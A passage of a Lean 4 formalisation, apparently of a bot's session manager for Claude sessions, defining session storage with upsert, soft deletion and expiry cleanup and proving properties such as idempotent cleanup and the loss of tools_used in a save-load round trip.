    | none => rw [hf] at hout; cases hout
    | some s =>
      refine ⟨s, rfl, ?_⟩
      unfold find_continuable at hf
      split at hf
      · cases hf
      · split at hf
        · next hbeq =>
          cases hf
          simpa using hbeq
        · cases hf

/-- Session of the unit test scoped to a different directory. -/
def sessionOther : ClaudeSession :=
  { session_id := "session123"
    user_id := 123
    project_path := "/tmp/other"
    created_at := 0
    last_used := 0 }

/-- Manager state holding only `sessionOther`. -/
def stOther : SessionManagerState := ⟨[sessionOther]⟩

/-- Response used to drive the facade in the witnesses. -/
def respCont : ClaudeResponse :=
  { content := "Continued"
    session_id := "existing123"
    cost := 1 / 50
    duration_ms := 400
    num_turns := 2 }

/-- C4 witness: the unit-test scenario — the only active session lives in
`/tmp/other`, so continuation in `/tmp/test` yields `none`. -/
theorem c4_continue_session_directory_scoped_witness :
    continue_session stOther 123 "/tmp/test" respCont 0 = none :=
  (c4_continue_session_directory_scoped stOther 123 "/tmp/test" respCont 0).2.1
    sessionOther [] rfl (by decide)

/-- C7: when no active session matches the (user, directory) pair and the
placeholder id is fresh, `run_command` resolves a provisional session,
returns the `Response` carrying the agent-assigned id, and stores the
session under the agent-assigned id — the placeholder never remains
observable in the store. -/
theorem c7_placeholder_rewritten (st : SessionManagerState) (uid : Nat)
    (dir : String) (agentResp : ClaudeResponse) (now : Int)
    (hmatch : (get_user_sessions_desc st uid).filter
        (fun s => s.project_path == dir) = [])
    (hph : ∀ s ∈ st.sessions, s.session_id ≠ local_placeholder uid)
    (hresp : agentResp.session_id ≠ local_placeholder uid) :
    ∃ r st2, run_command st uid dir none agentResp now = some (r, st2)
      ∧ r.session_id = agentResp.session_id
      ∧ (∃ s2, s2 ∈ st2.sessions ∧ s2.session_id = agentResp.session_id
          ∧ s2.user_id = uid ∧ s2.project_path = dir)
      ∧ ∀ s2 ∈ st2.sessions, s2.session_id ≠ local_placeholder uid := by
  have hget : get_or_create_session st uid dir now
      = new_provisional_session uid dir now := by
    simp [get_or_create_session, hmatch]
  have hany : st.sessions.any
      (fun t => t.session_id == local_placeholder uid) = false := by
    simp only [List.any_eq_false, beq_iff_eq]
    exact hph
  have hs2 : update_session_after (new_provisional_session uid dir now)
      agentResp now
      = { session_id := agentResp.session_id
          user_id := uid
          project_path := dir
          created_at := now
          last_used := now
          total_cost := 0 + agentResp.cost
          total_turns := 0 + agentResp.num_turns
          message_count := 0 + 1
          tools_used := add_new_tools [] (agentResp.tools_used.map ToolUsed.name)
          is_new_session := false } := by
    simp [update_session_after, new_provisional_session]
  refine ⟨agentResp,
    ⟨st.sessions ++ [update_session_after (new_provisional_session uid dir now)
      agentResp now]⟩, ?_, rfl, ?_, ?_⟩
  · simp only [run_command, hget, complete_turn]
    have hid : (new_provisional_session uid dir now).session_id
        = local_placeholder uid := rfl
    rw [hid, put_session, if_neg (by simp [hany])]
  · refine ⟨update_session_after (new_provisional_session uid dir now)
      agentResp now, ?_, ?_, ?_, ?_⟩
    · simp
    · rw [hs2]
    · rw [hs2]
    · rw [hs2]
  · intro s2 hmem
    rcases List.mem_append.mp hmem with hin | hin
    · exact hph s2 hin
    · rcases List.mem_singleton.mp hin with rfl
      rw [hs2]
      exact hresp

/-- C7 witness: an empty store with agent response id
`claude_session_id` — the provisional session is stored under the
agent-assigned id and the placeholder is gone. -/
theorem c7_placeholder_rewritten_witness :
    ∃ r st2, run_command ⟨[]⟩ 123 "/tmp/test" none
        { content := "New session started", session_id := "claude_session_id",
          cost := 1 / 50, duration_ms := 300, num_turns := 1 } 0
        = some (r, st2)
      ∧ r.session_id
          = ({ content := "New session started",
               session_id := "claude_session_id", cost := 1 / 50,
               duration_ms := 300, num_turns := 1 } : ClaudeResponse).session_id
      ∧ (∃ s2, s2 ∈ st2.sessions ∧ s2.session_id = "claude_session_id"
          ∧ s2.user_id = 123 ∧ s2.project_path = "/tmp/test")
      ∧ ∀ s2 ∈ st2.sessions, s2.session_id ≠ local_placeholder 123 :=
  c7_placeholder_rewritten ⟨[]⟩ 123 "/tmp/test"
    { content := "New session started", session_id := "claude_session_id",
      cost := 1 / 50, duration_ms := 300, num_turns := 1 } 0
    rfl (by intro s hs; cases hs) (by decide)

/-! ## SQLite session storage -/

/-- Modelled from the spec: one persisted row of the `sessions` table —
id, user, project path, timestamps, cost/turn/message counters and the
active flag.  The table has no column for the tools used. -/
structure SessionRow where
  session_id : String
  user_id : Nat
  project_path : String
  created_at : Int
  last_used : Int
  total_cost : Rat
  total_turns : Nat
  message_count : Nat
  is_active : Bool
deriving Repr, DecidableEq

/-- The persistent store: the rows of the `sessions` table. -/
structure StorageState where
  rows : List SessionRow
deriving Repr, DecidableEq

/-- Row written for a session: every persisted attribute of the session
(and the given active flag); `tools_used` has no column and is dropped. -/
def row_of_session (s : ClaudeSession) (active : Bool) : SessionRow :=
  { session_id := s.session_id
    user_id := s.user_id
    project_path := s.project_path
    created_at := s.created_at
    last_used := s.last_used
    total_cost := s.total_cost
    total_turns := s.total_turns
    message_count := s.message_count
    is_active := active }

/-- Upsert keyed by `session_id`: the first row with the session's id is
overwritten with the session's data (keeping its active flag), otherwise
a fresh active row is appended. -/
def upsert_row : List SessionRow → ClaudeSession → List SessionRow
  | [], s => [row_of_session s true]
  | r :: rest, s =>
    if r.session_id == s.session_id then row_of_session s r.is_active :: rest
    else r :: upsert_row rest s

/-- Modelled from the spec: `save_session` persists the session's scalar
attributes into the sessions table (insert or update). -/
def save_session (st : StorageState) (s : ClaudeSession) : StorageState :=
  ⟨upsert_row st.rows s⟩

/-- Session reconstructed from a stored row: the persisted attributes,
with `tools_used` empty since the table has no column for it. -/
def session_of_row (r : SessionRow) : ClaudeSession :=
  { session_id := r.session_id
    user_id := r.user_id
    project_path := r.project_path
    created_at := r.created_at
    last_used := r.last_used
    total_cost := r.total_cost
    total_turns := r.total_turns
    message_count := r.message_count
    tools_used := []
    is_new_session := false }

/-- Modelled from the spec: `load_session` returns the stored session, or
`none` when the id is unknown. -/
def load_session (st : StorageState) (sid : String) : Option ClaudeSession :=
  (st.rows.find? (fun r => r.session_id == sid)).map session_of_row

/-- Modelled from the spec: `delete_session` soft-deletes — it marks the
session's rows inactive and removes nothing. -/
def delete_session (st : StorageState) (sid : String) : StorageState :=
  ⟨st.rows.map (fun r =>
    if r.session_id == sid then { r with is_active := false } else r)⟩

/-- Modelled from the spec: `get_user_sessions` — the user's active
sessions, ordered by `last_used` descending. -/
def get_user_sessions (st : StorageState) (uid : Nat) : List ClaudeSession :=
  (sortDescBy SessionRow.last_used
    (st.rows.filter (fun r => r.user_id == uid && r.is_active))).map
    session_of_row

/-- Modelled from the spec: `get_all_sessions` — every active session,
ordered by `last_used` descending. -/
def get_all_sessions (st : StorageState) : List ClaudeSession :=
  (sortDescBy SessionRow.last_used
    (st.rows.filter (fun r => r.is_active))).map session_of_row

/-- A row due for expiry: still active and last used before the cutoff. -/
def expired_row (cutoff : Int) (r : SessionRow) : Bool :=
  r.is_active && decide (r.last_used < cutoff)

/-- Expiry cutoff: `now` minus the timeout, the timeout given in hours
and timestamps in seconds. -/
def expiry_cutoff (now timeout_hours : Int) : Int :=
  now - timeout_hours * 3600

/-- Modelled from the spec: `cleanup_expired_sessions` marks active
sessions whose `last_used` is older than the timeout as inactive (never
hard-deletes) and returns how many it marked. -/
def cleanup_expired_sessions (st : StorageState) (now timeout_hours : Int) :
    Nat × StorageState :=
  ((st.rows.filter (expired_row (expiry_cutoff now timeout_hours))).length,
   ⟨st.rows.map (fun r =>
     if expired_row (expiry_cutoff now timeout_hours) r then
       { r with is_active := false }
     else r)⟩)

theorem mem_insertDescBy {α : Type} (key : α → Int) (x y : α)
    (l : List α) : y ∈ insertDescBy key x l ↔ y = x ∨ y ∈ l := by
  induction l with
  | nil => simp [insertDescBy]
  | cons a t ih =>
    by_cases h : key a < key x
    · simp [insertDescBy, h]
    · simp [insertDescBy, h, ih]
      tauto

theorem mem_sortDescBy {α : Type} (key : α → Int) (y : α) (l : List α) :
    y ∈ sortDescBy key l ↔ y ∈ l := by
  induction l with
  | nil => simp [sortDescBy]
  | cons a t ih => simp [sortDescBy, mem_insertDescBy, ih]

/-- C8: soft deletion — `delete_session` keeps every row (same row
count), the deleted session's rows survive with only the active flag
flipped, every row with that id is inactive afterwards, the session
disappears from `get_user_sessions` and `get_all_sessions`, and the
expiry sweep likewise keeps every row, keeps expired rows as inactive
copies and leaves no stale session in any listing. -/
theorem c8_soft_delete_excludes (st : StorageState) (sid : String)
    (uid : Nat) (now th : Int) :
    (delete_session st sid).rows.length = st.rows.length
    ∧ (∀ r ∈ st.rows, r.session_id = sid →
        { r with is_active := false } ∈ (delete_session st sid).rows)
    ∧ (∀ r ∈ (delete_session st sid).rows, r.session_id = sid →
        r.is_active = false)
    ∧ (∀ s ∈ get_user_sessions (delete_session st sid) uid,
        s.session_id ≠ sid)
    ∧ (∀ s ∈ get_all_sessions (delete_session st sid), s.session_id ≠ sid)
    ∧ (cleanup_expired_sessions st now th).2.rows.length = st.rows.length
    ∧ (∀ r ∈ st.rows, expired_row (expiry_cutoff now th) r = true →
        { r with is_active := false }
          ∈ (cleanup_expired_sessions st now th).2.rows)
    ∧ (∀ s ∈ get_all_sessions (cleanup_expired_sessions st now th).2,
        ¬ s.last_used < expiry_cutoff now th) := by
  refine ⟨?_, ?_, ?_, ?_, ?_, ?_, ?_, ?_⟩
  · simp [delete_session]
  · intro r hr hid
    simp only [delete_session]
    refine List.mem_map.mpr ⟨r, hr, ?_⟩
    rw [if_pos (by simp [hid])]
  · intro r hr hid
    simp only [delete_session, List.mem_map] at hr
    obtain ⟨r0, _, hmap⟩ := hr
    by_cases h0 : r0.session_id = sid
    · rw [if_pos (by simp [h0])] at hmap
      rw [← hmap]
    · rw [if_neg (by simp [h0])] at hmap
      rw [← hmap] at hid
      exact absurd hid h0
  · intro s hs
    simp only [get_user_sessions, List.mem_map] at hs
    obtain ⟨r, hr, hrow⟩ := hs
    rw [mem_sortDescBy] at hr
    rw [List.mem_filter] at hr
    obtain ⟨hrmem, hcond⟩ := hr
    intro hsid
    have hact : r.is_active = true := by
      cases hb : r.is_active
      · rw [hb] at hcond; simp at hcond
      · rfl
    have hid : r.session_id = sid := by
      rw [← hrow] at hsid
      exact hsid
    simp only [delete_session, List.mem_map] at hrmem
    obtain ⟨r0, _, hmap⟩ := hrmem
    by_cases h0 : r0.session_id = sid
    · rw [if_pos (by simp [h0])] at hmap
      rw [← hmap] at hact
      cases hact
    · rw [if_neg (by simp [h0])] at hmap
      rw [← hmap] at hid
      exact absurd hid h0
  · intro s hs
    simp only [get_all_sessions, List.mem_map] at hs
    obtain ⟨r, hr, hrow⟩ := hs
    rw [mem_sortDescBy] at hr
    rw [List.mem_filter] at hr
    obtain ⟨hrmem, hcond⟩ := hr
    intro hsid
    have hid : r.session_id = sid := by
      rw [← hrow] at hsid
      exact hsid
    simp only [delete_session, List.mem_map] at hrmem
    obtain ⟨r0, _, hmap⟩ := hrmem
    by_cases h0 : r0.session_id = sid
    · rw [if_pos (by simp [h0])] at hmap
      rw [← hmap] at hcond
      simp at hcond
    · rw [if_neg (by simp [h0])] at hmap
      rw [← hmap] at hid
      exact absurd hid h0
  · simp [cleanup_expired_sessions]
  · intro r hr hexp
    simp only [cleanup_expired_sessions]
    refine List.mem_map.mpr ⟨r, hr, ?_⟩
    rw [if_pos hexp]
  · intro s hs
    simp only [get_all_sessions, List.mem_map] at hs
    obtain ⟨r, hr, hrow⟩ := hs
    rw [mem_sortDescBy] at hr
    rw [List.mem_filter] at hr
    obtain ⟨hrmem, hcond⟩ := hr
    intro hlate
    have hact : r.is_active = true := by
      cases hb : r.is_active
      · rw [hb] at hcond; simp at hcond
      · rfl
    have hlu : r.last_used < expiry_cutoff now th := by
      rw [← hrow] at hlate
      exact hlate
    simp only [cleanup_expired_sessions, List.mem_map] at hrmem
    obtain ⟨r0, _, hmap⟩ := hrmem
    by_cases h0 : expired_row (expiry_cutoff now th) r0 = true
    · rw [if_pos h0] at hmap
      rw [← hmap] at hact
      cases hact
    · rw [if_neg h0] at hmap
      rw [← hmap] at hact hlu
      rw [expired_row, hact] at h0
      simp at h0
      exact absurd hlu (by simpa using h0)

/-- Stored rows of the unit-test scenario for soft deletion: one active
session per directory, the second about to be deleted. -/
def rowActive : SessionRow :=
  { session_id := "active", user_id := 11111, project_path := "/tmp/active",
    created_at := 0, last_used := 0, total_cost := 0, total_turns := 0,
    message_count := 0, is_active := true }

/-- Second stored row of the soft-deletion scenario. -/
def rowInactiveSoon : SessionRow :=
  { session_id := "inactive", user_id := 11111,
    project_path := "/tmp/inactive", created_at := 0, last_used := 0,
    total_cost := 0, total_turns := 0, message_count := 0, is_active := true }

/-- Store of the soft-deletion scenario. -/
def stTwoRows : StorageState := ⟨[rowActive, rowInactiveSoon]⟩

/-- C8 witness: deleting session `inactive` keeps both rows, keeps the
deleted row as an inactive copy, and removes it from the user listing. -/
theorem c8_soft_delete_excludes_witness :
    (delete_session stTwoRows "inactive").rows.length = stTwoRows.rows.length
    ∧ { rowInactiveSoon with is_active := false }
        ∈ (delete_session stTwoRows "inactive").rows
    ∧ (∀ s ∈ get_user_sessions (delete_session stTwoRows "inactive") 11111,
        s.session_id ≠ "inactive") :=
  ⟨(c8_soft_delete_excludes stTwoRows "inactive" 11111 0 24).1,
   (c8_soft_delete_excludes stTwoRows "inactive" 11111 0 24).2.1
     rowInactiveSoon (by decide) rfl,
   (c8_soft_delete_excludes stTwoRows "inactive" 11111 0 24).2.2.2.1⟩

theorem cleanup_marks_nothing_active_stale (st : StorageState)
    (now th : Int) :
    ∀ r ∈ (cleanup_expired_sessions st now th).2.rows,
      expired_row (expiry_cutoff now th) r = false := by
  intro r hr
  simp only [cleanup_expired_sessions, List.mem_map] at hr
  obtain ⟨r0, _, hmap⟩ := hr
  by_cases h0 : expired_row (expiry_cutoff now th) r0 = true
  · rw [if_pos h0] at hmap
    rw [← hmap]
    simp [expired_row]
  · rw [if_neg h0] at hmap
    rw [← hmap]
    simpa using h0

/-- C9: the expiry sweep returns the count of active sessions whose
`last_used` lies before the cutoff, leaves no active stale row behind,
and is idempotent — run again immediately on its own output it marks
nothing and returns 0, leaving the store unchanged. -/
theorem c9_cleanup_idempotent (st : StorageState) (now th : Int) :
    (cleanup_expired_sessions st now th).1
      = (st.rows.filter (fun r =>
          r.is_active && decide (r.last_used < expiry_cutoff now th))).length
    ∧ (∀ r ∈ (cleanup_expired_sessions st now th).2.rows,
        expired_row (expiry_cutoff now th) r = false)
    ∧ cleanup_expired_sessions (cleanup_expired_sessions st now th).2 now th
      = (0, (cleanup_expired_sessions st now th).2) := by
  refine ⟨rfl, cleanup_marks_nothing_active_stale st now th, ?_⟩
  have hnone := cleanup_marks_nothing_active_stale st now th
  have hfilter : ((cleanup_expired_sessions st now th).2.rows.filter
      (expired_row (expiry_cutoff now th))) = [] := by
    rw [List.filter_eq_nil_iff]
    intro r hr
    simp [hnone r hr]
  have hmap : ((cleanup_expired_sessions st now th).2.rows.map (fun r =>
      if expired_row (expiry_cutoff now th) r then { r with is_active := false }
      else r)) = (cleanup_expired_sessions st now th).2.rows := by
    have := List.map_congr_left (l := (cleanup_expired_sessions st now th).2.rows)
      (f := fun r => if expired_row (expiry_cutoff now th) r then
        { r with is_active := false } else r)
      (g := id) (fun r hr => by simp [hnone r hr])
    simpa using this
  have hpair : cleanup_expired_sessions (cleanup_expired_sessions st now th).2
      now th
      = (((cleanup_expired_sessions st now th).2.rows.filter
           (expired_row (expiry_cutoff now th))).length,
         ⟨(cleanup_expired_sessions st now th).2.rows.map (fun r =>
           if expired_row (expiry_cutoff now th) r then
             { r with is_active := false }
           else r)⟩) := rfl
  rw [hpair, hfilter, hmap]
  rfl

/-- Stale stored row of the expiry-sweep scenario (48 hours old). -/
def rowStale : SessionRow :=
  { session_id := "expired", user_id := 222, project_path := "/tmp/expired",
    created_at := 0, last_used := 0, total_cost := 0, total_turns := 0,
    message_count := 0, is_active := true }

/-- Fresh stored row of the expiry-sweep scenario (12 hours old). -/
def rowFresh : SessionRow :=
  { session_id := "recent", user_id := 111, project_path := "/tmp/recent",
    created_at := 0, last_used := 90000, total_cost := 0, total_turns := 0,
    message_count := 0, is_active := true }

/-- Store of the expiry-sweep scenario. -/
def stExpiry : StorageState := ⟨[rowStale, rowFresh]⟩

/-- C9 witness: on the unit-test scenario (one stale, one fresh session,
24-hour timeout) the sweep marks exactly one session, and an immediate
second sweep marks none and leaves the store unchanged. -/
theorem c9_cleanup_idempotent_witness :
    (cleanup_expired_sessions stExpiry 100000 24).1 = 1
    ∧ cleanup_expired_sessions (cleanup_expired_sessions stExpiry 100000 24).2
        100000 24
      = (0, (cleanup_expired_sessions stExpiry 100000 24).2) :=
  ⟨by rw [(c9_cleanup_idempotent stExpiry 100000 24).1]; decide,
   (c9_cleanup_idempotent stExpiry 100000 24).2.2⟩

theorem find_upsert_row (rows : List SessionRow) (s : ClaudeSession) :
    ∃ b, (upsert_row rows s).find? (fun r => r.session_id == s.session_id)
      = some (row_of_session s b) := by
  induction rows with
  | nil =>
    refine ⟨true, ?_⟩
    simp [upsert_row, List.find?, row_of_session]
  | cons r rest ih =>
    by_cases h : r.session_id = s.session_id
    · refine ⟨r.is_active, ?_⟩
      simp [upsert_row, h, List.find?, row_of_session]
    · obtain ⟨b, hb⟩ := ih
      refine ⟨b, ?_⟩
      have hcond : (r.session_id == s.session_id) = false := by
        simp [h]
      simp [upsert_row, hcond, List.find?, hb]

/-- C10: saving a session and loading it back by its id returns a session
agreeing on `session_id`, `user_id`, `project_path`, `total_cost`,
`total_turns` and `message_count` (and the timestamps), but with
`tools_used` always empty, whatever list the saved session carried — the
round-trip through storage drops `tools_used`. -/
theorem c10_roundtrip_drops_tools (st : StorageState) (s : ClaudeSession) :
    load_session (save_session st s) s.session_id
      = some { session_id := s.session_id
               user_id := s.user_id
               project_path := s.project_path
               created_at := s.created_at
               last_used := s.last_used
               total_cost := s.total_cost
               total_turns := s.total_turns
               message_count := s.message_count
               tools_used := []
               is_new_session := false } := by
  obtain ⟨b, hb⟩ := find_upsert_row st.rows s
  show ((upsert_row st.rows s).find?
      (fun r => r.session_id == s.session_id)).map session_of_row = _
  rw [hb]
  rfl

end MulticodeBot
